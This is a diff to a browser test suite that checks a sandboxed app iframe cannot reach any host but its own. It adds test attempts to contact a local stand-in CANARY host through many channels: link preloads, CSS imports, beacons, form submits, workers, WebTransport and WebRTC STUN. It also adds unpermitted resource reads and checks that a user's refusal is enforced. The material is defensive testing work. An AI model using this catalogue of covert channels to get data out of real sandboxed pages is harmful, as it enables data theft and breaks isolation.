@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import json
+import select
+import socket
 import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
@@ -32,6 +33,9 @@ addEventListener("message", async ({ data }) => {
     parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: 77 } }, "*");
     await send("ui/open-link", { url: "https://example.invalid/" });
     out.textContent += "|refused";
+    const read = await Promise.all(["ui://apps/flood", "ui://apps/leaves"].map((uri) => send("resources/read", { uri })));
+    const listed = await send("resources/list", {});
+    out.textContent += `|${[...read, listed].map((answer) => answer.message ?? "read").join("|")}`;
   }
 });
 async function attempts() {
@@ -43,6 +47,21 @@ async function attempts() {
   await attempt("storage", async () => localStorage.setItem("a", "b"));
   await attempt("parent", async () => parent.document.body.textContent);
   await attempt("socket", () => new Promise((y, n) => { const s = new WebSocket("ws://CANARY/"); s.onopen = y; s.onerror = n; }));
+  const appended = (tag, rows) => async () => { const e = document.createElement(tag); Object.assign(e, rows); document.body.append(e); throw 0; };
+  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"]) {
+    await attempt(rel, appended("link", { rel, href: "https://CANARY/", as: "script" }));
+  }
+  await attempt("object", appended("object", { data: "https://CANARY/" }));
+  await attempt("embed", appended("embed", { src: "https://CANARY/" }));
+  await attempt("style", appended("style", { textContent: "@import url(https://CANARY/); @font-face { font-family: x; src: url(https://CANARY/f) } body { font-family: x; background: url(https://CANARY/b) }" }));
+  await attempt("beacon", async () => { navigator.sendBeacon("http://CANARY/", "x"); throw 0; });
+  await attempt("form", async () => { const f = document.createElement("form"); f.action = "http://CANARY/"; document.body.append(f); f.submit(); throw 0; });
+  await attempt("events", () => new Promise((y, n) => { const s = new EventSource("http://CANARY/"); s.onopen = y; s.onerror = n; }));
+  await attempt("transport", () => new WebTransport("https://CANARY/").ready);
+  await attempt("worker", async () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/', { mode: 'no-cors' })"]))); throw 0; });
+  const talk = async (Peer) => { const p = new Peer({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("d"); await p.setLocalDescription(await p.createOffer()); };
+  await attempt("peer", () => talk(window.RTCPeerConnection ?? window.webkitRTCPeerConnection));
+  await attempt("peer of a frame", async () => { const f = document.createElement("iframe"); document.body.append(f); await talk(f.contentWindow.RTCPeerConnection); });
   await attempt("open", async () => { if (!window.open("http://CANARY/")) throw 0; });
   return tried.join(",");
 }
@@ -95,29 +114,42 @@ def private() -> str:
 '''
 
 
+class Elsewhere:
+    """Another machine: a port that counts connections, what they brought, and packets."""
+
+    def __init__(self) -> None:
+        self.connections = self.packets = 0
+        self.data = b""
+        self._stream = socket.create_server(("127.0.0.1", 0))
+        self.address = f"127.0.0.1:{self._stream.getsockname()[1]}"
+        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._datagrams.bind(self._stream.getsockname())
+        threading.Thread(target=self._count, daemon=True).start()
+
+    def _count(self) -> None:
+        opened: list[socket.socket] = []
+        while True:
+            for ready in select.select([self._stream, self._datagrams, *opened], [], [])[0]:
+                if ready is self._stream:
+                    opened.append(self._stream.accept()[0])
+                    self.connections += 1
+                elif ready is self._datagrams:
+                    self._datagrams.recv(2000)
+                    self.packets += 1
+                else:
+                    self.data += (data := ready.recv(2000))
+                    if not data:
+                        opened.remove(ready)
+                        ready.close()
+
+
 @pytest.fixture(scope="module")
-def reached():
-    """Listen elsewhere; yield the address, and the paths that were asked for."""
-    paths: list[str] = []
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self):
-            paths.append(self.path)
-            self.send_error(404)
-
-        do_POST = do_GET  # noqa: N815
-
-        def log_message(self, *_):
-            pass
-
-    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        yield f"127.0.0.1:{server.server_port}", paths
-        server.shutdown()
+def elsewhere():
+    return Elsewhere()
 
 
 @pytest.fixture(scope="module")
-def apps(tmp_path_factory, reached):
+def apps(tmp_path_factory, elsewhere):
     """Serve a project with Apps."""
     folder = tmp_path_factory.mktemp("apps")
     pages = {"app": APP, "flood": FLOOD, "leaves": LEAVES, "reloads": RELOADS}
@@ -127,7 +159,7 @@ def apps(tmp_path_factory, reached):
         "server.json": '{"serverInfo": {"name": "apps", "version": "1"}}',
         "tools.py": TOOLS,
         "resources.json": json.dumps({"resources": rows}),
-        **{f"{name}.html": page.replace("CANARY", reached[0]) for name, page in pages.items()},
+        **{f"{name}.html": page.replace("CANARY", elsewhere.address) for name, page in pages.items()},
     }
     for name, text in files.items():
         (folder / name).write_text(text)
@@ -135,9 +167,11 @@ def apps(tmp_path_factory, reached):
         yield server
 
 
-def test_an_app_talks_with_its_host_and_reaches_nothing_else(apps, reached):
+def test_an_app_talks_with_its_host_and_reaches_nothing_else(apps, elsewhere):
     with opened(f"{apps.root}/ui/", allowed_errors=REFUSED) as tab:
         call(tab, "shows")
+        tab.locator(".question >> text=The App asks to call tools of this server").wait_for()
+        tab.get_by_role("button", name="Allow").click()
         out = tab.frame_locator("iframe").locator("#out")
         out.get_by_text("parent stays").wait_for()
         text = out.inner_text()
@@ -147,7 +181,13 @@ def test_an_app_talks_with_its_host_and_reaches_nothing_else(apps, reached):
         out.get_by_text("refused").wait_for()
         assert tab.locator("iframe").evaluate("frame => frame.style.height") == "77px"
         assert tab.locator("iframe").get_attribute("sandbox") == "allow-scripts"
-    assert reached[1] == []
+        tab.locator(".question >> text=The App asks to read what this server offers").wait_for()
+        tab.get_by_role("button", name="Refuse").click()
+        out.get_by_text("|the person did not").wait_for()
+        refusal = "the person did not allow the App to read what this server offers"
+        assert out.inner_text().split("|refused|")[1] == "|".join([refusal] * 3)
+        assert tab.locator(".question").count() == 0
+    assert (elsewhere.connections, elsewhere.packets) == (0, 0)
 
 
 @pytest.mark.parametrize(("tool", "said"), [("floods", "messages in a second"), ("reloads", "tried to leave")])
@@ -158,9 +198,10 @@ def test_an_app_that_floods_or_leaves_is_ended(apps, tool, said):
         assert tab.locator("iframe").count() == 0
 
 
-def test_an_app_cannot_go_to_another_site(apps, reached):
+def test_an_app_cannot_go_to_another_site(apps, elsewhere):
     with opened(f"{apps.root}/ui/", allowed_errors=REFUSED) as tab:
         call(tab, "leaves")
         tab.wait_for_selector("iframe")
         tab.wait_for_timeout(500)
-    assert reached[1] == []
+    # The browser connects before it asks the policy; no request is sent.
+    assert (elsewhere.data, elsewhere.packets) == (b"", 0)
